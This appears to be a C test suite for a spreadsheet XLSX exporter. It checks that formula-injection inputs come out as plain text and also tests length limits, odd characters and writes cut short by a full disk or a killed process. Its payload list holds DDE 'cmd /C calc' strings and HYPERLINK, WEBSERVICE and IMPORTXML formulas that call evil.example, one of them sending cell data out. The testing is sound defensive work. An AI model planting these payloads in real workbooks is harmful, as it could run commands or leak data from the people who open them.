/* SPDX-License-Identifier: GPL-3.0-or-later */
/* Data that wants to be a formula, that is too long, or that no XML can hold; and disks and processes that
 * end too early: what is written is a sound workbook with texts in it, or nothing. */
#include "config.h"

#include "export-fixture.h"

#include <errno.h>
#include <signal.h>
#include <sys/resource.h>

/* --- formulas that came as data --- */

/* What spreadsheets took for formulas, commands or links, each also behind what might hide it. */
static const char *const payloads[] = {
  "=1+1",
  "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
  "=cmd|'/C calc'!A0",
  "=DDE(\"cmd\",\"/C calc\",\"x\")",
  "=WEBSERVICE(\"http://evil.example/\")",
  "=IMPORTXML(\"http://evil.example/\",\"//a\")",
  "=INDIRECT(\"A1\")",
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
  "+1+1",
  "+cmd|'/C calc'!A0",
  "-1+1",
  "-2+3+cmd|'/C calc'!A0",
  "@SUM(1+1)",
  "@SUM(1+1)*cmd|'/C calc'!A0",
  "{=1+1}",
};
static const char *const prefixes[] = { "", "'", "\"", "＝" };

static char *
make_csv (GPtrArray *texts)
{
  GString *csv = g_string_new ("date,product,price,quantity,amount\n");

  for (guint i = 0; i < texts->len; i++)
    {
      g_auto (GStrv) parts = g_strsplit (texts->pdata[i], "\"", -1);
      g_autofree char *quoted = g_strjoinv ("\"\"", parts);

      for (guint day = 1; day <= 2; day++)
        g_string_append_printf (csv, "2024-03-%02u,\"%s\",10.00,1,10.00\n", day, quoted);
    }
  return g_string_free (csv, FALSE);
}

static void
on_start (GMarkupParseContext *context,
          const char *name,
          const char **keys,
          const char **values,
          gpointer user_data,
          GError **error)
{
}

static void
on_text (GMarkupParseContext *context, const char *text, gsize length, gpointer user_data, GError **error)
{
  GHashTable *found = user_data;
  const char *element = g_markup_parse_context_get_element (context);

  if (g_str_equal (element, "t"))
    g_hash_table_add (found, g_strndup (text, length));
  else if (g_str_equal (element, "f"))
    for (guint i = 0; i < G_N_ELEMENTS (payloads); i++)
      g_assert_false (strncmp (text, payloads[i] + 1, strlen (payloads[i] + 1)) == 0);
}

/* Every part is well formed; gives the texts in it, and looks at formulas. */
static GHashTable *
read_texts (const char *path)
{
  static const GMarkupParser parser = { .start_element = on_start, .text = on_text };
  GHashTable *found = g_hash_table_new_full (g_str_hash, g_str_equal, g_free, NULL);
  zip_t *zip = zip_open (path, ZIP_RDONLY | ZIP_CHECKCONS, NULL);

  g_assert_nonnull (zip);
  for (zip_int64_t i = 0; i < zip_get_num_entries (zip, 0); i++)
    {
      zip_stat_t stat;
      zip_file_t *file = zip_fopen_index (zip, (zip_uint64_t) i, 0);
      g_autoptr (GMarkupParseContext) context = g_markup_parse_context_new (&parser, 0, found, NULL);
      g_autoptr (GError) error = NULL;
      g_autofree char *data = NULL;

      g_assert_cmpint (zip_stat_index (zip, (zip_uint64_t) i, 0, &stat), ==, 0);
      data = g_malloc (stat.size + 1);
      g_assert_cmpint (zip_fread (file, data, stat.size), ==, (zip_int64_t) stat.size);
      zip_fclose (file);
      data[stat.size] = '\0';
      g_assert_true (g_markup_parse_context_parse (context, data, (gssize) stat.size, &error)
                     && g_markup_parse_context_end_parse (context, &error));
      g_assert_no_error (error);
      g_assert_null (strstr (data, "TargetMode=\"External\""));
      g_assert_null (strstr (data, "<ddeLink"));
    }
  zip_discard (zip);
  return found;
}

static void
test_injection (gconstpointer data)
{
  const SyXlsxOptions *options = data;
  ExportFixture fixture;
  g_autoptr (GPtrArray) texts = g_ptr_array_new_with_free_func (g_free);
  g_autofree char *csv = NULL, *path = NULL;
  g_autoptr (GHashTable) found = NULL;

  for (guint i = 0; i < G_N_ELEMENTS (payloads); i++)
    for (guint j = 0; j < G_N_ELEMENTS (prefixes); j++)
      g_ptr_array_add (texts, g_strconcat (prefixes[j], payloads[i], NULL));
  g_assert_cmpuint (texts->len, ==, 60);
  csv = make_csv (texts);
  export_fixture_open_csv (&fixture, "pareto", csv);
  path = export_fixture_write (&fixture, options);
  found = read_texts (path);
  for (guint i = 0; i < texts->len; i++)
    if (!g_hash_table_contains (found, texts->pdata[i]))
      g_error ("not a text in the workbook: %s", (char *) texts->pdata[i]);
  export_fixture_clear (&fixture);
}

/* --- limits --- */

static guint
count_units (const char *text)
{
  guint n = 0;

  for (; *text; text = g_utf8_next_char (text))
    n += g_utf8_get_char (text) > 0xFFFF ? 2 : 1;
  return n;
}

static guint
longest (GHashTable *texts)
{
  GHashTableIter iter;
  gpointer text;
  guint n = 0;

  g_hash_table_iter_init (&iter, texts);
  while (g_hash_table_iter_next (&iter, &text, NULL))
    n = MAX (n, count_units (text));
  return n;
}

static gboolean
has_part (GHashTable *texts, const char *part)
{
  GHashTableIter iter;
  gpointer text;

  g_hash_table_iter_init (&iter, texts);
  while (g_hash_table_iter_next (&iter, &text, NULL))
    if (strstr (text, part))
      return TRUE;
  return FALSE;
}

/* 20,000 faces are 40,000 units for Excel; letters fill the limit to the last one. */
static void
test_long_texts (void)
{
  ExportFixture fixture;
  g_autoptr (GPtrArray) texts = g_ptr_array_new_with_free_func (g_free);
  g_autoptr (GString) faces = g_string_new (NULL);
  g_autofree char *csv = NULL, *path = NULL;
  g_autoptr (GHashTable) found = NULL;

  for (guint i = 0; i < 20000; i++)
    g_string_append (faces, "😀");
  g_ptr_array_add (texts, g_strdup (faces->str));
  g_ptr_array_add (texts, g_strnfill (32767, 'a'));
  g_ptr_array_add (texts, g_strnfill (32768, 'b'));
  csv = make_csv (texts);
  export_fixture_open_csv (&fixture, "pareto", csv);
  path = export_fixture_write (&fixture, NULL);
  found = read_texts (path);
  g_assert_cmpuint (longest (found), ==, 32767);
  g_assert_true (g_hash_table_contains (found, texts->pdata[1]));
  g_assert_true (has_part (found, "longer than a cell holds"));
  export_fixture_clear (&fixture);
}

/* Signs that XML can't hold are left out; what reads like Excel's escape of one stays what it is. */
static void
test_odd_signs (void)
{
  ExportFixture fixture;
  g_autoptr (GPtrArray) texts = g_ptr_array_new ();
  g_autofree char *csv = NULL, *path = NULL;
  g_autoptr (GHashTable) found = NULL;

  g_ptr_array_add (texts, (gpointer) "bell\a tab\tend");
  g_ptr_array_add (texts, (gpointer) "not a sign \xef\xbf\xbe at all");
  g_ptr_array_add (texts, (gpointer) "_x0041_ is no A");
  g_ptr_array_add (texts, (gpointer) " space at the ends ");
  g_ptr_array_add (texts, (gpointer) "<b>&amp;</b>");
  g_ptr_array_add (texts, (gpointer) "]]>");
  csv = make_csv (texts);
  export_fixture_open_csv (&fixture, "pareto", csv);
  path = export_fixture_write (&fixture, NULL);
  found = read_texts (path);
  g_assert_true (has_part (found, "bell tab"));
  g_assert_true (has_part (found, "not a sign  at all"));
  g_assert_true (has_part (found, "_x005F_x0041_ is no A"));
  g_assert_true (has_part (found, "<b>&amp;</b>"));
  g_assert_true (has_part (found, "]]>"));
  export_fixture_clear (&fixture);
}

/* --- all or nothing --- */

static guint
count_files (const char *folder)
{
  g_autoptr (GDir) dir = g_dir_open (folder, 0, NULL);
  guint n = 0;

  while (g_dir_read_name (dir))
    n++;
  return n;
}

static void
assert_old (const char *path)
{
  g_autofree char *kept = NULL;

  g_assert_true (g_file_get_contents (path, &kept, NULL, NULL));
  g_assert_cmpstr (kept, ==, "old");
}

/* The disk is full after so many bytes of a file. */
static void
test_full_disk (void)
{
  ExportFixture fixture;
  g_autofree char *path = NULL;
  struct rlimit before, limit;
  guint n_failed = 0;

  signal (SIGXFSZ, SIG_IGN);
  export_fixture_open (&fixture, "pareto");
  path = g_build_filename (fixture.folder, "report.xlsx", NULL);
  g_assert_true (g_file_set_contents (path, "old", -1, NULL));
  g_assert_cmpint (getrlimit (RLIMIT_FSIZE, &before), ==, 0);
  for (guint i = 0; i < 20; i++)
    {
      g_autoptr (GError) error = NULL;
      g_autoptr (SyEvaluation) evaluation = sy_workbook_evaluate (fixture.workbook, &error);

      limit = before;
      limit.rlim_cur = i * 700;
      g_assert_no_error (error);
      g_assert_cmpint (setrlimit (RLIMIT_FSIZE, &limit), ==, 0);
      if (!sy_xlsx_writer_write (evaluation, path, NULL, NULL, NULL, NULL, &error))
        {
          n_failed++;
          g_assert_nonnull (error);
          assert_old (path);
          g_assert_cmpuint (count_files (fixture.folder), ==, 2);
        }
      g_assert_cmpint (setrlimit (RLIMIT_FSIZE, &before), ==, 0);
    }
  g_assert_cmpuint (n_failed, ==, 20);
  export_fixture_clear (&fixture);
}

static void
on_progress (guint64 done, guint64 total, const char *unit, gpointer user_data)
{
  if (done >= *(guint *) user_data)
    raise (SIGKILL);
}

/* In a process of its own: killed after so many sheets. */
static void
write_and_die (guint after)
{
  ExportFixture fixture;
  g_autoptr (GError) error = NULL;
  g_autoptr (SyEvaluation) evaluation = NULL;

  export_fixture_open (&fixture, "pareto");
  evaluation = sy_workbook_evaluate (fixture.workbook, &error);
  sy_xlsx_writer_write (evaluation, g_getenv ("HOSTILE_TARGET"), NULL, on_progress, &after, NULL, &error);
}

static void
test_killed (gconstpointer data)
{
  g_autofree char *folder = NULL, *path = NULL;

  if (g_test_subprocess ())
    {
      write_and_die (GPOINTER_TO_UINT (data));
      return;
    }
  folder = g_dir_make_tmp ("steelyard-killed-XXXXXX", NULL);
  path = g_build_filename (folder, "report.xlsx", NULL);
  g_assert_true (g_file_set_contents (path, "old", -1, NULL));
  g_setenv ("HOSTILE_TARGET", path, TRUE);
  g_test_trap_subprocess (NULL, 0, 0);
  assert_old (path);
  {
    g_autoptr (GDir) dir = g_dir_open (folder, 0, NULL);
    const char *name;

    while ((name = g_dir_read_name (dir)))
      {
        g_autofree char *left = g_build_filename (folder, name, NULL);

        g_unlink (left);
      }
  }
  g_rmdir (folder);
}

int
main (int argc, char **argv)
{
  static const SyXlsxOptions grain = { .max_fact_rows = 10 }, a1 = { .a1 = TRUE };

  g_test_init (&argc, &argv, NULL);
  g_test_add_data_func ("/xlsx-hostile/injection/rows", NULL, test_injection);
  g_test_add_data_func ("/xlsx-hostile/injection/grain", &grain, test_injection);
  g_test_add_data_func ("/xlsx-hostile/injection/a1", &a1, test_injection);
  g_test_add_func ("/xlsx-hostile/long-texts", test_long_texts);
  g_test_add_func ("/xlsx-hostile/odd-signs", test_odd_signs);
  g_test_add_func ("/xlsx-hostile/full-disk", test_full_disk);
  g_test_add_data_func ("/xlsx-hostile/killed/1", GUINT_TO_POINTER (1), test_killed);
  g_test_add_data_func ("/xlsx-hostile/killed/3", GUINT_TO_POINTER (3), test_killed);
  return g_test_run ();
}
